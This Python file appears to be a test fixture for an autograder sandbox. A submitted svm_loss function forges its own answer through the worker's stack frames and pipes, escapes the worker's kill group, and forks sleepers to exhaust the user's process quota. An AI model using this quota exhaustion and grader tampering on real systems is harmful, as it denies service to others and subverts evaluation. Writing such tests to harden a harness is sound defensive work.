# Attacks: the worker's own process quota. svm_loss's case child moves itself into the
# worker's process group (out of the group the worker kills when a case answers), fills the
# worker uid's process limit (RLIMIT_NPROC) with children that become `sleep 30.{MARKER}`,
# writes a correct, well-formed answer for its case into its own result pipe (built with the
# worker's encoder, found on the calling frames, with the case id from the caller's locals)
# and then, instead of returning, sleeps. The worker takes the answer and moves on; the child
# and its sleepers keep holding the quota.
# Must happen: svm_loss gets whatever it gets; every other function keeps full marks (what a
# case leaves behind must not cost other functions' cases); grading finishes, and nothing of
# the submission is left running afterwards.
import json as _json
import os as _os
import sys as _sys
import time as _time

_correct_svm_loss = svm_loss


def _caller_with_case():
    frame = _sys._getframe(1)
    while frame is not None:
        if "case" in frame.f_locals and "encode_message" in frame.f_globals:
            return frame
        frame = frame.f_back
    return None


def _result_fd():
    with open("/proc/self/cmdline", "rb") as f:
        for arg in f.read().split(b"\0"):
            if arg.startswith(b"{"):
                return _json.loads(arg)["res_fd"]
    return None


def _case_pipe():
    skip = {0, 1, 2, _result_fd()}
    for name in sorted(_os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        if fd in skip:
            continue
        try:
            if not _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                continue
            with open(f"/proc/self/fdinfo/{fd}") as f:
                flags = next(line for line in f if line.startswith("flags:")).split()[1]
        except (OSError, StopIteration):
            continue
        if int(flags, 8) & 3 == 1:
            return fd
    return None


def _fill_quota():
    for _ in range(500):
        try:
            pid = _os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                _os.execv("/bin/sleep", ["sleep", "30.{MARKER}"])
            finally:
                _os._exit(0)


def svm_loss(x, y):
    loss, dx = _correct_svm_loss(x, y)
    frame = _caller_with_case()
    fd = _case_pipe()
    if frame is None or fd is None:
        return loss, dx
    worker = frame.f_globals
    header, arrays = worker["result_message"]({"loss": loss, "dx": dx})
    header["case"] = frame.f_locals["case"]["id"]
    message = worker["encode_message"](header, arrays)
    try:
        _os.setpgid(0, _os.getpgid(_os.getppid()))
    except OSError:
        pass
    _fill_quota()
    _os.write(fd, message)
    _time.sleep(30)
    _os._exit(0)
